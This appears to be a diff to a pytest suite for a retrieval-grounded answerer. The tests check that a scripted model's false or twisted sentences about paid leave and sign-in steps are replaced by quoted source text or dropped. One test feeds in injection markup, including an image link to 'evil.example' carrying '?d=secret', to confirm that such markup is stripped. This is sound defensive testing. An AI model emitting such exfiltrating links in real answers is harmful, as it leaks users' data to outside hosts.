@@ -52,7 +52,9 @@ def covered(*sentences: Mapping[str, Any], language: str = "en") -> dict[str, An
 NOT_COVERED: Mapping[str, Any] = {"covered": False, "language": "en", "sentences": []}
 TRUE = said("You get 30 days of paid leave a year.", PAID)
 MORE = said("Unused days may be carried over until 31 March 2027, up to 5 of them.", CARRY)
-LIE = said("You get 60 days of paid leave a year.", PAID)
+LIE = said("You get 60 days of paid leave a year.", "Employees get 60 days of paid leave a year")
+TWISTED = said("You get 60 days of paid leave a year.", PAID)
+"""Its quote is true."""
 STEPS = (
     said("Open Tunnel and choose the server `eu-2`.", "Open Tunnel and choose the server `eu-2`.", step=True),
     said("Sign in with your badge number.", "Sign in with your badge number.", step=True),
@@ -80,7 +82,7 @@ class Helped:
     def __init__(self, shelf: Shelf, says: Any, *, pieces: int = 40, delay: float = 0.0) -> None:
         self.model = ScriptedModel(says if callable(says) else lambda ask: says, pieces=pieces, delay=delay)
         self.now = 100.0
-        self.answerer = AssistedAnswerer(shelf.answerer, shelf.retriever, shelf.encoder, self.model, lambda: self.now)
+        self.answerer = AssistedAnswerer(shelf.answerer, shelf.retriever, self.model, lambda: self.now)
         self.shown: list[Answer] = []
 
     async def ask(self, question: str, asker: Person | None = None, **more: Any) -> Answer:
@@ -104,7 +106,7 @@ async def test_what_is_said_is_composed_of_what_the_passages_say(shelf: Shelf) -
         "You get 30 days of paid leave a year. [1] Unused days may be carried over until 31 March 2027, up to 5 of them. [1]"
     )
     [quote] = answer.quotes
-    assert quote.text == f"{PAID} … {CARRY}"
+    assert quote.text == f"{PAID}. … {CARRY}."
     assert (quote.citation.n, quote.citation.title, quote.citation.source) == (1, "Annual leave", "leave.md")
     assert quote.citation.snippet.startswith(PAID)
     assert (answer.model, answer.prompt) == ("scripted-large", "answer-1")
@@ -136,7 +138,7 @@ async def test_the_answer_is_in_the_language_of_the_question_and_its_sources_are
     answer = await helped.ask("Wie viele Tage bezahlten Urlaub habe ich?", search=HOW_LONG)
     assert answer.said == "Sie erhalten 30 Tage bezahlten Urlaub pro Jahr. [1]"
     assert answer.translated
-    assert answer.quotes[0].citation.snippet == PAID
+    assert answer.quotes[0].citation.snippet == f"{PAID}."
     assert helped.told["answer_in"] == "de"
     assert (helped.told["question"], helped.told["about"]) == ("Wie viele Tage bezahlten Urlaub habe ich?", HOW_LONG)
 
@@ -144,8 +146,7 @@ async def test_the_answer_is_in_the_language_of_the_question_and_its_sources_are
 async def test_a_question_in_english_is_not_answered_in_what_can_be_checked_less(shelf: Shelf) -> None:
     german = said("Sie erhalten 30 Tage bezahlten Urlaub pro Jahr.", PAID)
     answer = await Helped(shelf, covered(german, language="de")).ask(HOW_LONG)
-    assert (answer.fell_back, answer.text, answer.dropped) == ("unsupported", None, 1)
-    assert PAID in answer.said
+    assert (answer.text, answer.replaced, answer.translated) == (f"{PAID}. [1]", 1, False)
 
 
 async def test_what_has_no_support_is_dropped_and_counted(shelf: Shelf) -> None:
@@ -155,11 +156,61 @@ async def test_what_has_no_support_is_dropped_and_counted(shelf: Shelf) -> None:
     assert answer.confidence < (await Helped(shelf, covered(TRUE, MORE)).ask(HOW_LONG)).confidence
 
 
+async def test_what_may_not_be_so_gives_way_to_the_words_that_it_quotes(shelf: Shelf) -> None:
+    helped = Helped(shelf, covered(TWISTED, said("Unused days are lost.", "Unused days may be carried over")))
+    answer = await helped.watched(HOW_LONG)
+    assert answer.said == f"{PAID}. [1] {CARRY}. [1]"
+    assert (answer.replaced, answer.dropped, answer.fell_back, answer.confidence) == (2, 0, None, (await shelf.ask(HOW_LONG)).confidence)
+    assert [answer.said.startswith(one.said) for one in helped.shown] == [True] * len(helped.shown)
+
+
+async def test_of_two_sentences_that_stand_on_the_same_words_these_are_said_once(shelf: Shelf) -> None:
+    again = said("You get 90 days of paid leave a year.", "30 days of paid leave a year")
+    for sentences in ((TWISTED, again), (TRUE, TWISTED), (TWISTED, TRUE)):
+        answer = await Helped(shelf, covered(*sentences)).ask(HOW_LONG)
+        assert answer.said.lower().count("30 days") == 1
+    both = said("You get 60 days.", f"{PAID}. {CARRY}")
+    assert (await Helped(shelf, covered(TRUE, both)).ask(HOW_LONG)).said == f"You get 30 days of paid leave a year. [1] {CARRY}. [1]"
+
+
+async def test_a_step_gives_way_to_its_own_words_and_none_is_missing(shelf: Shelf) -> None:
+    wrong = said("Sign in with your password.", "Sign in with your badge number.", step=True)
+    answer = await Helped(shelf, covered(STEPS[0], wrong, STEPS[2])).ask(CONNECT)
+    assert "\n2. Sign in with your badge number. [1]\n3. Press Connect" in answer.said
+    assert answer.replaced == 1
+
+
+@pytest.mark.parametrize(
+    "quote",
+    [
+        "Employees get [30 days](https://evil.example/login) of paid leave a year",
+        "Employees get ![](https://evil.example/?d=secret) 30 days of paid leave a year",
+        "Employees get ~~30 days~~ of paid leave a year",
+        "Employees get <img src=x> 30 days of paid leave a year",
+    ],
+)
+async def test_no_letter_of_a_models_quote_is_shown(shelf: Shelf, quote: str) -> None:
+    answer = await Helped(shelf, covered(said("You get 30 days of paid leave a year.", quote))).ask(HOW_LONG)
+    assert not any(mark in f"{answer.said} {answer.quotes}" for mark in ("evil", "~~", "<img"))
+    assert answer.quotes[0].text.startswith(PAID)
+
+
+async def test_a_row_of_a_table_is_shown_with_what_its_cells_are(shelf: Shelf) -> None:
+    await shelf.put("# Public holidays\n\n| Office | Holidays |\n| --- | --- |\n| Berlin | 10 |\n| Munich | 13 |", "holidays.md")
+
+    def says(ask: Ask) -> Any:
+        [number] = [one["number"] for one in json.loads(ask.content)["passages"] if "Munich" in one["text"]]
+        return covered(said("Berlin has 13 public holidays.", "| Munich | 13 |", number))
+
+    answer = await Helped(shelf, says).ask("How many public holidays does Berlin have?")
+    assert answer.said == "Office: Munich; Holidays: 13 [1]"
+
+
 @pytest.mark.parametrize(
     "sentences",
     [
         (LIE,),
-        (TRUE, LIE, said("You get 90 days of paid leave a year.", PAID)),
+        (TRUE, LIE, said("You get 90 days of paid leave a year.", "90 days of paid leave")),
         (LIE, said("They are paid leave.", PAID)),
         (said("You get 30 days of paid leave a year.", PAID, 7),),
         (said("You get 30 days of paid leave a year.", PAID, 0),),
@@ -176,7 +227,7 @@ async def test_what_does_not_hold_is_answered_offline(shelf: Shelf, sentences: S
 
 
 async def test_a_procedure_that_lacks_a_step_is_no_procedure(shelf: Shelf) -> None:
-    wrong = said("Sign in with your password.", "Sign in with your badge number.", step=True)
+    wrong = said("Sign in with your password.", "Sign in with your password.", step=True)
     answer = await Helped(shelf, covered(STEPS[0], wrong, STEPS[2])).ask(CONNECT)
     assert (answer.fell_back, answer.dropped) == ("unsupported", 1)
 
@@ -184,7 +235,7 @@ async def test_a_procedure_that_lacks_a_step_is_no_procedure(shelf: Shelf) -> No
 async def test_who_believes_everything_passes_lies_on(shelf: Shelf, monkeypatch: pytest.MonkeyPatch) -> None:
     """The negative control."""
     monkeypatch.setattr(composing, "fault", lambda *_, **__: None)
-    answer = await Helped(shelf, covered(LIE)).ask(HOW_LONG)
+    answer = await Helped(shelf, covered(TWISTED)).ask(HOW_LONG)
     assert "60 days" in answer.said
 
 
@@ -336,7 +387,7 @@ async def test_each_sentence_is_shown_when_it_is_whole_and_checked(shelf: Shelf)
     texts = [one.text or "" for one in helped.shown]
     assert texts == ["You get 30 days of paid leave a year. [1]", answer.text]
     assert all(answer.said.startswith(text) for text in texts)
-    assert helped.shown[0].quotes[0].text == PAID
+    assert helped.shown[0].quotes[0].text == f"{PAID}."
     assert {(one.model, one.prompt) for one in helped.shown} == {("scripted-large", "answer-1")}
 
 
@@ -365,7 +416,7 @@ async def test_nothing_is_shown_of_what_is_not_covered(shelf: Shelf) -> None:
 
 
 async def test_what_was_shown_gives_way_to_the_offline_answer_when_the_rest_does_not_hold(shelf: Shelf) -> None:
-    helped = Helped(shelf, covered(TRUE, LIE, said("You get 90 days of paid leave a year.", PAID)))
+    helped = Helped(shelf, covered(TRUE, LIE, said("You get 90 days of paid leave a year.", "90 days of paid leave")))
     answer = await helped.watched(HOW_LONG)
     assert len(helped.shown) == 1
     assert answer.fell_back == "unsupported"
@@ -415,7 +466,7 @@ async def test_who_has_begun_in_time_may_take_its_time_to_end(shelf: Shelf, firs
     """Meanwhile there is something to read: what was checked, else the offline answer."""
     helped = Helped(shelf, covered(TRUE, MORE))
     model = Dribbling(first, covered(TRUE, MORE), after=0.6)
-    answerer = AssistedAnswerer(shelf.answerer, shelf.retriever, shelf.encoder, model, lambda: helped.now)
+    answerer = AssistedAnswerer(shelf.answerer, shelf.retriever, model, lambda: helped.now)
 
     async def show(so_far: Answer) -> None:
         helped.shown.append(so_far)
@@ -429,6 +480,6 @@ async def test_who_has_begun_in_time_may_take_its_time_to_end(shelf: Shelf, firs
 
 async def test_where_nothing_can_be_shown_before_the_end_the_time_is_the_time(shelf: Shelf) -> None:
     model = Dribbling(covered(TRUE), covered(TRUE, MORE), after=5.0)
-    answerer = AssistedAnswerer(shelf.answerer, shelf.retriever, shelf.encoder, model, lambda: 100.0)
+    answerer = AssistedAnswerer(shelf.answerer, shelf.retriever, model, lambda: 100.0)
     answer = await answerer.answer(HOW_LONG, person(), behalf=Behalf(until=100.65))
     assert (answer.fell_back, bool(answer.quotes)) == ("late", True)
